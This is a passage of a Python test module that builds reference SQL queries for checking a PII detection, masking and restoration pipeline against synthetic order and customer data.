        V.host_matches(F.concat(F.lit("https://h"), (F.col("id") % 3).cast("string"), F.lit(".Example.net:8/p")), ".example.net").alias("suffix_ok"), V.host_matches(F.concat(F.lit("h"), (F.col("id") % 3).cast("string"), F.lit(".example.net/x")), "h1.example.net").alias("host_ok"), V.valid_bank_card(F.lpad((F.col("id") * 104729).cast("string"), 16, "4")).alias("card_ok"), V.clamp01((F.col("id") % 7) / 4.0 - 0.5).alias("clamped"),
        backends.input_bytes(F.lit("t"), F.lit("Bash"), F.col("s"), F.array(F.lit("é"), F.col("s")), F.create_map(F.lit("k"), F.col("s"))).cast("long").alias("bytes"), backends.action_fault(F.when(F.col("id") % 2 == 0, "tool_call").otherwise("call"), F.when(F.col("id") % 4 == 0, "soon")).alias("fault"),
    )


_SMALL_SQL = """WITH o AS (SELECT o_orderkey AS id, CAST(o_orderkey AS VARCHAR) AS s, right(lpad(CAST(o_orderkey * 104729 AS VARCHAR), 16, '4'), 16) AS value FROM orders), l AS (SELECT *, repeat('ab', CAST(id % 4000 AS INT)) || s AS long FROM o)
    SELECT id, [400, 401, 404, 502, 500, 502][id % 6 + 1]::INT AS status, md5(CASE WHEN length(long) > 4096 THEN long[1:4096] || '...[truncated]' ELSE long END) AS logged, CASE WHEN length(s) = 0 THEN 2 ELSE 3 END::INT AS cut, length(s) BETWEEN 4 AND 60 AS request_ok, FALSE AS conversation_ok,
           TRUE AS suffix_ok, id % 3 = 1 AS host_ok, @LUHN@ AS card_ok, greatest(0.0, least(1.0, (id % 7) / 4.0 - 0.5))::DOUBLE AS clamped, 1 + 4 + length(s) + 3 + length(s) + 1 + 1 + length(s) + 2 AS bytes, CASE WHEN id % 2 = 1 THEN 'unknown kind' WHEN id % 4 = 0 THEN 'unknown phase' END AS fault FROM l"""

_EMAIL_COUNT = f"len(regexp_extract_all(coalesce(text, ''), '{fixed.EMAIL}'))"
_IP_COUNT = "(SELECT count(*) FROM ips i WHERE i.id = x.id)"


def oracle_sql(rule_sql, rules: dict, luhn: str) -> dict[str, str]:
    """rule_sql(source, rule) gives the entities of a rule; rules: those that it knows, in the order in which they are tried."""
    union = " UNION ALL ".join(f"(SELECT *, {n} AS n FROM ({rule_sql('documents', r)}))" for n, r in enumerate(rules))
    limits = " ".join(f"WHEN '{k}' THEN {v}" for k, v in fixed.THRESHOLDS.items())
    both = lambda source, where: " UNION ALL ".join(f"(SELECT * FROM ({rule_sql(source, r)}))" for r in ("email", "ipv4"))
    counted = f"SELECT id, count(*) AS n FROM ({both('turns', '')}) GROUP BY id"
    return {
        "detect_full": _resolved_sql(union, f"score >= CASE type {limits} ELSE {fixed.DEFAULT_THRESHOLD} END", ", e.p AS score"),
        "detect_families": _resolved_sql(" UNION ALL ".join(f"(SELECT *, {n} AS n FROM ({rule_sql('families', r)}))" for n, r in enumerate(rules)), f"score >= CASE type {limits} ELSE {fixed.DEFAULT_THRESHOLD} END", ", e.p AS score"),
        "detect_allowed": _resolved_sql(union, "type IN ('email', 'url', 'credit_card', 'ip_address') AND score >= CASE type WHEN 'email' THEN 0.95 WHEN 'url' THEN 0.2 WHEN 'credit_card' THEN 0.9 ELSE 0.5 END", ""),
        "cached_detection": f"""WITH turns AS (SELECT CAST(conv_id AS VARCHAR) || ':' || CAST(turn AS VARCHAR) AS tid, coalesce(text, '') AS text FROM conversations), c AS ({counted}),
            t AS (SELECT conv_id, coalesce(text, '') AS text, coalesce(c.n, 0) AS n FROM conversations LEFT JOIN c ON c.id = CAST(conv_id AS VARCHAR) || ':' || CAST(turn AS VARCHAR))
            SELECT conv_id, CAST(2 * count(*) - count(DISTINCT text) AS BIGINT) AS hits, count(DISTINCT text) AS misses, CAST(2 * sum(n) AS BIGINT) AS entities FROM t GROUP BY conv_id""",
        "stored_cache": f"""WITH turns AS (SELECT CAST(conv_id AS VARCHAR) || ':' || CAST(turn AS VARCHAR) AS tid, coalesce(text, '') AS text FROM conversations), c AS ({counted}),
            t AS (SELECT conv_id, turn % 2 = 0 AS early, coalesce(text, '') AS text, coalesce(c.n, 0) AS n FROM conversations LEFT JOIN c ON c.id = CAST(conv_id AS VARCHAR) || ':' || CAST(turn AS VARCHAR)),
            k AS (SELECT *, bool_or(early) OVER (PARTITION BY conv_id, text) AS old FROM t),
            r AS (SELECT conv_id, 'half' AS run, n, FALSE AS hit FROM k WHERE early UNION ALL SELECT conv_id, 'all', n, old FROM k UNION ALL SELECT conv_id, 'new', n, FALSE FROM k UNION ALL SELECT conv_id, 'late', n, NOT old FROM k)
            SELECT conv_id, run, count(*) FILTER (hit) AS hits, count(*) FILTER (NOT hit) AS misses, CAST(sum(n) AS BIGINT) AS entities FROM r GROUP BY ALL""",
        "growing_detection": f"""WITH turns AS (SELECT CAST(conv_id AS VARCHAR) || ':' || CAST(turn AS VARCHAR) AS tid, coalesce(text, '') AS text FROM conversations), c AS ({counted}),
            t AS (SELECT conv_id, turn, coalesce(c.n, 0) AS n, turn = max(turn) OVER (PARTITION BY conv_id) AS final FROM conversations LEFT JOIN c ON c.id = CAST(conv_id AS VARCHAR) || ':' || CAST(turn AS VARCHAR))
            SELECT conv_id, 1 AS version, 0::BIGINT AS reused, count(*) AS scanned, CAST(sum(n) AS BIGINT) AS entities FROM t GROUP BY conv_id
            UNION ALL SELECT conv_id, 2, count(*) - 1, 2::BIGINT, CAST(2 + coalesce(sum(n) FILTER (NOT final), 0) AS BIGINT) FROM t GROUP BY conv_id""",
        "mapping_store_hot": """WITH p AS (SELECT epoch_us(ts) AS t, min(event_id) AS event_id FROM events GROUP BY ALL), a AS (SELECT list(t ORDER BY t) AS ts FROM p),
            f AS (SELECT unnest(list_reduce(list_transform(ts, lambda x: [x]), lambda acc, x: CASE WHEN x[1] > acc[len(acc)] + 3600000000 THEN list_concat(acc, x) ELSE acc END)) AS t FROM a)
            SELECT event_id, make_timestamp(t) AS created_at, make_timestamp(t + 3600000000) AS expires_at FROM f JOIN p USING (t)""",
        "circuit_breaker_hot": """WITH RECURSIVE c AS (SELECT user_id % 2 AS stream, epoch_us(ts) AS t, event_id, event_type = 'view' AS ok, row_number() OVER (PARTITION BY user_id % 2 ORDER BY ts, event_id) AS i FROM events),
            f AS (SELECT stream, 0::BIGINT AS i, 0::BIGINT AS bad, NULL::BIGINT AS opened, NULL::VARCHAR AS state, NULL::BIGINT AS call_id FROM c GROUP BY stream
              UNION ALL SELECT stream, i, CASE WHEN state = 'open' THEN bad WHEN ok THEN 0 ELSE bad + 1 END, CASE WHEN state = 'open' THEN opened WHEN ok THEN NULL WHEN state = 'half_open' OR bad + 1 >= 3 THEN t ELSE opened END, state, event_id
              FROM (SELECT c.stream, c.i, c.t, c.ok, c.event_id, f.bad, f.opened, CASE WHEN f.opened IS NULL THEN 'closed' WHEN c.t - f.opened < 3600000000 THEN 'open' ELSE 'half_open' END AS state FROM f JOIN c ON c.stream = f.stream AND c.i = f.i + 1))
            SELECT stream, CAST(call_id AS BIGINT) AS call_id, state, state <> 'open' AS allowed FROM f WHERE i > 0""",
        "audit_files": """WITH l AS (SELECT ts, '{"event_id":' || event_id || ',"event_type":"' || event_type || '","ts":"' || strftime(ts, '%Y-%m-%d %H:%M:%S.%f') || '","schema_version":"1"}' AS line FROM events),
            p AS (SELECT line, strlen(line) + 1 AS size, coalesce(sum(strlen(line) + 1) OVER (ORDER BY ts, line ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS place FROM l)
            SELECT CAST(place // 50000 AS BIGINT) AS file, count(*) AS records, CAST(sum(size) AS BIGINT) AS bytes, min(md5(line)) AS least_md5 FROM p GROUP BY 1""",
        "dictionary_orders": """SELECT o_orderkey AS id, 'zh_person_name' AS type, 'CUSTOMER#' || lpad(CAST(o_custkey AS VARCHAR), 9, '0') AS value, 8::INT AS "start", 26::INT AS "end" FROM orders JOIN customer ON c_custkey = o_custkey
            UNION ALL SELECT o_orderkey, 'plate', o_orderpriority, 45::INT, CAST(45 + strlen(o_orderpriority) AS INT) FROM orders""",
        "simulated_documents": f"""WITH e AS ({rule_sql("documents", "email")}), v AS (SELECT id % 50 AS request_id, count(DISTINCT value) AS "values" FROM e GROUP BY 1) SELECT request_id, "values", TRUE AS domains_ok, TRUE AS restored_ok FROM v""",
        "masked_documents": f"""WITH p AS (SELECT doc_id, text, regexp_extract_all(text, '{fixed.EMAIL}') AS v, string_split_regex(text, '{fixed.EMAIL}') AS g FROM documents)
            SELECT doc_id, md5(list_reduce(list_prepend(g[1], list_transform(range(1, len(v) + 1), lambda i: repeat('*', greatest(length(v[i]) - 4, 0)) || right(v[i], 4) || g[i + 1])), lambda a, b: a || b)) AS masked_md5, md5(text) AS bypass_md5 FROM p""",
        "gate_bodies": f"""SELECT conv_id, CAST(sum({_EMAIL_COUNT} + 1) AS BIGINT) AS entities, TRUE AS has_pii, TRUE AS blocked, FALSE AS changed, FALSE AS values_shown FROM conversations GROUP BY conv_id""",
        "restored_bodies": f"""SELECT conv_id, TRUE AS same, CAST(sum({_EMAIL_COUNT} + 1) AS BIGINT) AS placeholders, FALSE AS "left" FROM conversations GROUP BY conv_id""",
        "tool_params": """SELECT o_orderkey AS request_id, CASE WHEN o_orderkey % 2 = 1 THEN '{"file_path":"/tmp/f' || o_orderkey || '","text":"none"}' WHEN o_orderkey % 3 = 0 THEN '{"file_path":"/home/u' || o_orderkey || '@x.com/f","text":"to <<email_1>>"}' ELSE '{"file_path":"/home/<<email_1>>/f","text":"to <<email_1>>"}' END AS rewritten,
            o_orderkey % 2 = 0 AS has_pii, CASE WHEN o_orderkey % 2 = 0 THEN 'redact' ELSE 'proceed' END AS recommendation FROM orders""",
        "event_frames": """WITH f AS (SELECT c_custkey, c_name, 'data: {"at":1.7e9, "id":' || c_custkey || '.50,"choices":[{"index":0,"delta":{"content":"' AS a, '"}}]}' AS z, chr(10) || chr(10) AS gap FROM customer)
            SELECT c_custkey AS stream_id, a || 'hi ' || z || gap || 'event: x' || chr(10) || a || c_name || ' and' || z || gap || CASE WHEN c_custkey % 5 = 0 THEN a || ' <<email_9>>' || z ELSE a || ' if a ' || z || gap || a || '<' || z END || gap || 'data: [DONE]' AS restored, 1::BIGINT AS orphans FROM f""",
        "byte_frames": """SELECT c_custkey AS stream_id, 'data: {"n":1.50,"text":"é "}' || chr(10) || chr(10) || 'event: x' || chr(10) || 'data: {"text":"' || c_name || ' 😀 "}' || chr(10) || chr(10) || 'event: x' || chr(10) || 'data: {"text":"<<"}' || chr(10) || chr(10) || 'data: [DONE]' || chr(10) || chr(10) AS restored, 1::BIGINT AS orphans FROM customer""",
        "replace_odd_keys": f"SELECT doc_id, md5(regexp_replace(text, '{fixed.EMAIL}', '<<email>>', 'g')) AS shown_md5, md5(text) AS restored_md5 FROM documents",
        "spliced_bodies": f"""SELECT c_custkey AS request_id, md5(CASE WHEN c_custkey % 2 = 0 THEN replace(replace(body, 'u' || c_custkey || '@x.com', '<<email_1>>'), chr(92) || 'u00e9', 'é') ELSE body END) AS rewritten_md5, c_custkey % 2 = 0 AS changed FROM (SELECT c_custkey, {_DEEP.replace("as string", "as varchar")} AS body FROM customer)""",
        "chunk_texts": "SELECT o_orderkey AS stream_id, 'x a' || o_orderkey || '@b.org<<email_1>> of ' || o_custkey || ' <<email_1' AS restored FROM orders",
        "all_counters": _COUNTERS_SQL,
        "latencies": f"WITH e AS ({_EVENTS_SQL}) " + " UNION ALL ".join(map(_histogram_sql, reports.HISTOGRAMS)),
        "histogram_lines": f"WITH e AS ({_EVENTS_SQL}) " + " UNION ALL ".join(map(_lines_sql, reports.HISTOGRAMS)),
        "settings_run": f"""WITH e AS (SELECT DISTINCT id % 50 AS request_id, type, value FROM ({rule_sql("documents", "email")} UNION ALL {rule_sql("documents", "ipv4")}))
            SELECT type AS entity_type, CASE type WHEN 'email' THEN 'reversible' ELSE 'mask' END AS fate, count(*) AS n, count(*) AS good FROM e GROUP BY type""",
        "gauges": """SELECT 'store_size' AS metric, count(*) AS value FROM events WHERE ts + INTERVAL 30 MINUTE >= TIMESTAMP '2024-01-10 00:00:00'
            UNION ALL SELECT 'active_streams', count(*) FROM events WHERE ts <= TIMESTAMP '2024-01-10 00:00:00' AND (event_id % 5 = 0 OR ts + INTERVAL 2 HOUR > TIMESTAMP '2024-01-10 00:00:00')""",
        "percentile_nearest": "SELECT event_type, list_sort(list(value))[greatest(1, CAST(round_even(0.95 * count(value), 0) AS BIGINT))] AS percentile FROM events WHERE value IS NOT NULL GROUP BY event_type",
        "entity_scores": _SCORES_SQL,
        "quality_gate": f"""WITH {_LABELLED_SQL}, n AS (SELECT count(*) FILTER (p % 4 <> 0) / count(*) AS rate FROM li) SELECT figure, round(rate, 9) AS value, least, rate >= least AS passed FROM n, (VALUES ('recall', 0.7::DOUBLE), ('precision', 0.99::DOUBLE)) v(figure, least)""",
        "judge_lines": _LINES_SQL,
        "judge_categories": f"SELECT CASE WHEN id % 4 = 0 THEN 'benign' ELSE category END AS want, count(*) AS total, count(*) FILTER (category = CASE WHEN id % 4 = 0 THEN 'benign' ELSE category END) AS same, count(*) FILTER (category = 'benign') AS as_benign FROM ({_LINES_SQL}) GROUP BY 1",
        "judge_chain": _CHAIN_SQL,
        "small_functions": _SMALL_SQL.replace("@LUHN@", luhn),
    }


def queries() -> dict:
    names = (detect_full, detect_shaped, detect_allowed, cached_detection, stored_cache, growing_detection, mapping_store_hot, circuit_breaker_hot, audit_files, dictionary_orders, simulated_documents, masked_documents, gate_bodies, restored_bodies, tool_params, replace_odd_keys, spliced_bodies, event_frames, byte_frames, chunk_texts, all_counters, latencies, histogram_lines, settings_run, gauges, percentile_nearest, entity_scores, quality_gate, judge_lines, judge_categories, judge_chain, small_functions)
    return {f.__name__: f for f in names}
